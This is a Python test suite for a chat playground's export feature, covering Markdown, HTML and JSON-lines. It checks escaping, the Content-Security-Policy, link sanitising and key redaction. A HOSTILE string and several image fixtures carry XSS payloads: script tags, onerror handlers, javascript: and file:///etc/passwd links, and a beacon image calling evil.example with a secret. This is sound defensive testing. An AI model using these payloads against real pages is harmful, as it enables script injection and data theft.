"""Exports: what is in them, what they cannot do to a reader, and that no key is in any."""

from __future__ import annotations

import base64
import hashlib
import json
import re
from html.parser import HTMLParser
from itertools import product
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from playground.domain.errors import Failure, FailureKind
from playground.domain.parts import Image, Reasoning, Refusal, Text, ToolCall, ToolResult, Unknown
from playground.domain.tool_servers import DataBlock, ServerAnswer, TextBlock
from playground.domain.tools import ToolDefinition
from playground.domain.transcript import Ending, Outcome, Role, Turn
from playground.engine.files import messages as messages_import
from playground.engine.files.export import FORMATS, ExportError, export, left_out
from playground.engine.gateways.secrets import Secret
from playground.engine.session.snapshot import Snapshot
from playground.protocols.protocol import get_protocol, parameters_of
from tests.engine.files.experiment_file.experiments import experiments
from tests.support.each_case import each_case

KEY = "gw-canary-4f9c1d7e0a"
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
DOT = Image(url=f"data:image/png;base64,{base64.b64encode(PNG).decode()}", name="dot.png")
HOSTILE = """<script>alert(1)</script> <img src=x onerror=alert(2)>

[click](javascript:alert(3)) [data](data:text/html,<script>x</script>) <javascript:alert(4)> [f](file:///etc/passwd)
![pixel](http://evil.example/?q=secret) ![d](data:image/svg+xml;base64,AAAA) [ok](https://example.org/?a=1&b="2")

| a | b |
|:--|--:|
| <b onclick=x()>1</b> | 2 |

```html" onmouseover="x()
</code></pre><script>alert(5)</script>
```
`</style><script>` &lt;script&gt; <!-- --> ]]> </main><style>*{display:none}</style> \x00 \ud800 \u202e
"""


def turn(key: str, role: Role, *parts: Any, parent: str | None = None, outcome: Outcome | None = None) -> Turn:
    return Turn(id=key, role=role, parts=parts, parent=parent, outcome=outcome)


def conversation(**fields: Any) -> Snapshot:
    call = ToolCall(id="c1", name="get_weather", arguments='{"city": "Oslo"}')
    failed = Outcome(ending=Ending.FAILED, failure=Failure(kind=FailureKind.HTTP, status=429, message="Too many."))
    complete = Outcome(ending=Ending.COMPLETE, model="demo-1")
    turns = (
        turn("s", Role.SYSTEM, Text(text="Be brief.")),
        turn("u", Role.USER, Text(text="Weather in {{city}}?\nNow."), DOT, parent="s"),
        turn("a", Role.ASSISTANT, Reasoning(text="I must ask."), call, parent="u", outcome=complete),
        turn("t", Role.TOOL, ToolResult(call_id="c1", text="rain ``` here", is_error=True), parent="a"),
        turn("b", Role.ASSISTANT, Text(text="It **rains**.\n\n```python\nprint(1)\n```"), parent="t", outcome=complete),
        turn("f", Role.ASSISTANT, parent="t", outcome=failed),
    )
    tool = ToolDefinition(name="get_weather", description="Looks.", parameters={"type": "object"})
    defaults = {
        "id": "e",
        "model": "demo-1",
        "turns": turns,
        "head": "b",
        "tools": (tool,),
        "variables": {"city": "Oslo"},
    }
    return Snapshot(**{**defaults, **fields})


class Page(HTMLParser):
    """The elements of a page with their attributes, and its text."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.texts: list[str] = []
        self.inside: list[str] = []
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag not in ("meta", "img", "br", "hr"):
            self.inside.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.inside.pop() == tag

    def handle_data(self, data: str) -> None:
        if self.inside and self.inside[-1] != "style":
            self.texts.append(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError("a comment")

    @property
    def text(self) -> str:
        return "".join(self.texts)


ELEMENTS = re.compile(
    "html|head|meta|title|style|body|main|header|section|details|summary|div|p|span|b|code|pre|a|img|h[1-6]|em|strong|s"
    "|ul|ol|li|blockquote|table|thead|tbody|tr|th|td|br|hr"
)
ATTRIBUTES = re.compile("lang|charset|http-equiv|content|name|class|id|dir|href|rel|title|src|alt|start")


def harmless(source: str) -> Page:
    """The page, after everything in it has been looked at."""
    page = Page(source)
    assert page.inside == []
    for tag, attributes in page.elements:
        assert ELEMENTS.fullmatch(tag)
        assert all(map(ATTRIBUTES.fullmatch, attributes))
        if "href" in attributes:
            assert re.match(r"(https?://|mailto:)", str(attributes["href"]), re.IGNORECASE)
        if "src" in attributes:
            assert re.match(r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+\Z", str(attributes["src"]))
    assert [tag for tag, _ in page.elements].count("style") == 1
    return page


def served(name: str = "weather", **fields: Any) -> Snapshot:
    """A conversation whose call a tool server answered with a text, a picture and a sound."""
    sound = DataBlock(kind="audio", data="AAAA", mime="audio/wav")
    answer = ServerAnswer(server=name, tool="t", blocks=(TextBlock(text="rain"), sound), seconds=1.2)
    call = ToolCall(id="c1", name="get_weather", arguments="{}")
    result = ToolResult(call_id="c1", text="snow", images=(DOT,), served=answer)
    turns = (turn("a", Role.ASSISTANT, call), turn("t", Role.TOOL, result, parent="a"))
    return conversation(turns=turns, head="t", **fields)


@each_case("kind", ["markdown", "html"])
def test_answer_of_a_server_has_its_source(kind: str) -> None:
    text = export(served(), kind)
    assert "Answered by the server weather in 1.20 s. The text was changed since." in text
    assert "Sound, audio/wav, 3 bytes" in text
    assert DOT.url in text
    assert KEY not in export(served(f"at {KEY}"), kind, [Secret(KEY)])


@each_case("kind", ["markdown", "html"])
def test_items_that_the_gateway_ran_have_their_titles_and_images(kind: str) -> None:
    drawn = {"type": "image_generation_call", "id": "ig_1", "status": "completed"}
    result = DOT.url.partition(",")[2]
    parts = (
        Unknown(value={**drawn, "revised_prompt": "a dot <b>", "result": result}),
        Unknown(value={**drawn, "result": "no image <script>"}),
        Unknown(value={"type": "web_search_call", "id": "ws_1", "action": {"query": "tides"}}),
    )
    text = export(conversation(turns=(turn("a", Role.ASSISTANT, *parts),), head="a"), kind)
    assert "Image generation · completed" in text
    assert "Web search" in text
    assert "tides" in text
    assert text.count(f"{DOT.url}") == 1
    if kind == "html":
        page = harmless(text)
        assert "a dot <b>" in page.text
        assert "no image <script>" in page.text


# ---- HTML ------------------------------------------------------------------------------------------------------------


def test_page_has_the_whole_conversation() -> None:
    source = export(conversation(title="Weather <now>"), "html")
    page = harmless(source)
    for words in ("Weather <now>", "Be brief.", "Weather in Oslo?", "I must ask.", "get_weather", '"Oslo"', "Error"):
        assert words in page.text
    assert "rain ``` here" in page.text
    assert "{{" not in page.text
    assert "Too many." not in page.text  # another branch
    assert ("img", {"src": DOT.url, "alt": "dot.png"}) in page.elements
    assert '<span class="n">' in source or '<span class="k">' in source
    assert '<details class="thought"><summary>Reasoning</summary>' in source
    assert "<strong>rains</strong>" in source


def test_page_policy_allows_its_own_style() -> None:
    source = export(conversation(), "html")
    (policy,) = [a["content"] for _, a in Page(source).elements if a.get("http-equiv") == "Content-Security-Policy"]
    (style,) = re.findall("<style>(.*?)</style>", source, re.DOTALL)
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    assert policy == (
        f"default-src 'none'; img-src data:; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"
    )
    assert source.index("Content-Security-Policy") < source.index("<title>")
    assert "prefers-color-scheme: dark" in style
    assert "url(" not in style
    assert "http" not in style


def test_hostile_texts_are_escaped() -> None:
    parts = (
        Text(text=HOSTILE),
        Reasoning(text=HOSTILE),
        Refusal(text=HOSTILE),
        ToolCall(id=HOSTILE, name=HOSTILE, arguments=HOSTILE),
        Image(url="javascript:alert(1)", name=HOSTILE),
        Image(url='https://evil.example/"onerror="x()'),
        Image(url="data:image/svg+xml;base64,PHN2Zy8+", name=HOSTILE),
        Image(url=f'data:image/png" onerror="x();base64,{base64.b64encode(PNG).decode()}', name=HOSTILE),
        Unknown(value={HOSTILE: HOSTILE}),
    )
    failure = Failure(kind=FailureKind.HTTP, message=HOSTILE)
    outcome = Outcome(ending=Ending.FAILED, failure=failure, model=HOSTILE)
    turns = (
        turn("a", Role.ASSISTANT, *parts, outcome=outcome),
        turn("t", Role.TOOL, ToolResult(call_id=HOSTILE, text=HOSTILE), Text(text=HOSTILE), parent="a"),
        turn("u", Role.USER, Text(text=HOSTILE), parent="t"),
    )
    snapshot = conversation(turns=turns, head="u", title=HOSTILE, model=HOSTILE, gateway=HOSTILE, protocol=HOSTILE)
    snapshot = snapshot.model_copy(
        update={"extra_body": {HOSTILE: HOSTILE}, "parameters": {HOSTILE: parameters_of(HOSTILE, {"x": HOSTILE})}}
    )
    page = harmless(export(snapshot, "html"))
    assert page.text.count("<script>alert(1)</script>") >= 8
    assert "\u202e" not in page.text
    assert "‹U+202E›" in page.text
    links = {attributes["href"] for tag, attributes in page.elements if tag == "a"}
    assert links >= {"http://evil.example/?q=secret", "https://example.org/?a=1&b=%222%22"}
    assert "Image: pixel" in page.text


MARKS = st.text(alphabet=st.sampled_from("<>&\"'`*_[]()!|-#\n ~\\:/.ab1=\u202e"), max_size=60)
PIECES = st.sampled_from(
    ["<script>", "javascript:", "](", "![", "```", "| a |\n|--:|\n", "> ", "1. ", "</pre>", "data:"]
)


@settings(max_examples=60, deadline=None)
@example("[]()")
@given(st.lists(MARKS | PIECES, max_size=6).map("".join))
def test_any_text_is_escaped(text: str) -> None:
    parts = (Text(text=text), Reasoning(text=text), ToolCall(id="c", name=text, arguments=text))
    snapshot = Snapshot(id="e", turns=(turn("a", Role.ASSISTANT, *parts),), head="a", title=text)
    harmless(export(snapshot, "html"))


@each_case("text", ["> " * 3_000 + "x", "- " * 3_000 + "x", "[" * 20_000, "`" * 99 + "x" * 600_000])
def test_unparsable_text_is_shown_literally(text: str) -> None:
    page = harmless(export(Snapshot(id="e", turns=(turn("a", Role.USER, Text(text=text)),), head="a"), "html"))
    assert text in page.text


# ---- Markdown --------------------------------------------------------------------------------------------------------


def test_markdown_has_the_whole_conversation() -> None:
    text = export(conversation(title="Weather"), "markdown")
    assert text.startswith("# Weather\n\ndemo-1 · Chat completions\n\n## 1. System\n\nBe brief.\n\n## 2. User\n\n")
    assert "Weather in Oslo?\nNow.\n\n![dot.png](data:image/png;base64," in text
    assert "## 3. Assistant · demo-1\n\n> **Reasoning**\n>\n> I must ask.\n\n**Call of `get_weather`** `c1`\n\n" in text
    assert '```json\n{"city": "Oslo"}\n```' in text
    assert "**Error of `get_weather`** `c1`\n\n````\nrain ``` here\n````" in text
    assert text.endswith("It **rains**.\n\n```python\nprint(1)\n```\n")


def test_whole_tree_has_the_place_of_each_turn() -> None:
    text = export(conversation(), "markdown", whole_tree=True)
    assert "## 5. Assistant · demo-1 · alternative 1 of 2\n" in text
    assert "## 6. Assistant · alternative 2 of 2, follows message 4\n\n> **Error (429): Too many.**\n" in text
    page = harmless(export(conversation(), "html", whole_tree=True))
    assert "Error (429): Too many." in page.text
    assert "alternative 2 of 2, follows message 4" in page.text


# ---- lines of JSON ---------------------------------------------------------------------------------------------------


def records(text: str) -> list[Any]:
    return [json.loads(line) for line in text.splitlines()]


@each_case("to", ["chat", "messages"])
def test_messages_as_lines_are_read_again(to: str) -> None:
    text = export(conversation(), to)
    answer = "tool" if to == "chat" else "user"
    assert [message["role"] for message in records(text)] == ["system", "user", "assistant", answer, "assistant"]
    (back,) = messages_import.read(text).conversations
    assert back.request.protocol == to
    assert [turn.role for turn in back.request.turns][:2] == [Role.SYSTEM, Role.USER]
    assert back.request.turns[-1].text.startswith("It **rains**.")


@each_case("to", ["chat", "messages"])
def test_whole_tree_has_one_conversation_per_line(to: str) -> None:
    text = export(conversation(), to, whole_tree=True)
    first, second = records(text)
    assert ("system" in first) is (to == "messages")
    assert len(first["tools"]) == 1
    assert len(second["messages"]) == len(first["messages"]) - 1  # the branch that failed has no answer
    imported = messages_import.read(text)
    assert [conversation.request.protocol for conversation in imported.conversations] == [to] * 2


def test_invalid_arguments_are_refused_by_messages() -> None:
    broken = turn("a", Role.ASSISTANT, ToolCall(id="c", name="f", arguments="{half"))
    snapshot = Snapshot(id="e", turns=(broken,), head="a")
    assert records(export(snapshot, "chat"))[0]["tool_calls"][0]["function"]["arguments"] == "{half"
    with pytest.raises(ExportError, match=r"^This cannot be exported: the arguments of the call “f”"):
        export(snapshot, "messages")


COMPLETE = Outcome(ending=Ending.COMPLETE)
FILE = {"type": "file", "file": {"hash": "h"}}
EXTRA: dict[str, dict[str, Any]] = {
    "chat": {"annotations": [{"type": "url_citation"}, FILE], "mood": "calm", "nothing": None},
    "messages": {"container": {"id": "c"}, "playground_extra": 1},
}


@each_case("whole_tree", [False, True])
@each_case("to", ["chat", "messages"])
def test_unknown_members_of_an_answer_are_read_again(to: str, whole_tree: bool) -> None:
    answer = turn("a", Role.ASSISTANT, Text(text="Yes."), parent="u", outcome=COMPLETE)
    turns = (turn("u", Role.USER, Text(text="Is it?")), answer.model_copy(update={"extra": EXTRA}))
    text = export(Snapshot(id="e", protocol=to, turns=turns, head="a"), to, whole_tree=whole_tree)
    message = (records(text)[0]["messages"] if whole_tree else records(text))[1]
    assert message["playground_extra"] == EXTRA
    assert message.get("annotations") == ([FILE] if to == "chat" else None)  # as it goes back
    assert "mood" not in message
    (back,) = messages_import.read(text, prefer=to).conversations
    again = back.request.turns[1]
    assert (again.text, again.extra, again.members, back.notes) == ("Yes.", EXTRA, {}, ())
    sent = json.dumps(get_protocol(to).encode(back.request))
    assert "playground_extra" not in sent
    assert "mood" not in sent


def test_omissions_of_a_protocol_are_reported() -> None:
    thought = Reasoning(text="Hm.", field="thinking", signature="s")
    cited = Text(text="Yes.", extra={"messages": {"citations": [{"title": KEY}]}})
    turns = (turn("a", Role.ASSISTANT, thought, cited, outcome=COMPLETE).model_copy(update={"extra": EXTRA}),)
    snapshot = Snapshot(id="e", protocol="messages", turns=turns, head="a")
    assert left_out(snapshot, "messages") == left_out(snapshot, "markdown") == left_out(snapshot, "html") == ""
    sentence = left_out(snapshot, "chat", [Secret(KEY)])
    assert sentence.startswith("Left out: reasoning that is set not to be sent back; Message 1 (assistant): ")
    assert "citations" in sentence
    assert KEY not in sentence
    assert "container" not in sentence  # that is in the lines
    many = tuple(
        copy.model_copy(update={"id": f"t{n}", "parent": f"t{n - 1}" if n else None})
        for n, copy in enumerate(turns * 9)
    )
    assert "; and " in left_out(snapshot.model_copy(update={"turns": many, "head": "t8"}), "chat", whole_tree=True)


# ---- all of them -----------------------------------------------------------------------------------------------------


@each_case("to", list(FORMATS))
def test_export_has_no_key(to: str) -> None:
    secret = f"so {KEY[:8]}{KEY[8:]} it is"
    parts = (
        Text(text=f"{secret}\n\n```python\nkey = '{KEY}'\n```"),
        Reasoning(text=secret),
        ToolCall(id=KEY, name=KEY, arguments=json.dumps({"key": KEY})),
        Unknown(value={"type": "text", "text": KEY, KEY: [KEY]}),
    )
    result = turn("t", Role.TOOL, ToolResult(call_id=KEY, text=secret), parent="a")
    tool = ToolDefinition(name=KEY, description=KEY)
    snapshot = conversation(
        turns=(turn("a", Role.ASSISTANT, *parts), result), head="t", title=KEY, model=KEY, tools=(tool,)
    )
    snapshot = snapshot.model_copy(
        update={"parameters": {"chat": parameters_of("chat", {"user": KEY})}, "extra_body": {"k": KEY}}
    )
    text = export(snapshot, to, [Secret(KEY)], whole_tree=True)
    assert "canary" not in text
    assert "••••" in text


@settings(max_examples=10, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(experiments())
def test_any_experiment_is_exported_or_refused(snapshot: Snapshot) -> None:
    for to, whole_tree in product(FORMATS, (False, True)):  # making an experiment is what costs: each goes all ways out
        try:
            text = export(snapshot, to, whole_tree=whole_tree)
        except ExportError as error:
            text = str(error)
        assert isinstance(text, str)
        assert isinstance(left_out(snapshot, to, whole_tree=whole_tree), str)
        if to == "html":
            harmless(text)
